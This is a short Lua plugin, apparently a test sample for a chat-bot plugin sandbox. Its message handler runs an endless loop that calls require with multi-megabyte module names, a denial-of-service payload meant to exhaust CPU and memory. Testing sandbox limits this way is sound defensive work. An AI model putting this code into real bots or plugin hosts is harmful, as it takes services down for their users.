-- Asks for modules with names of megabytes; each message becomes the next name.
return {
  events = {
    MESSAGE_CREATE = function(ctx, event)
      local name = ("a."):rep(2000000)
      while true do
        local _, message = pcall(require, name)
        pcall(require, message)
        pcall(require, ("/"):rep(4000000))
      end
    end,
  },
}
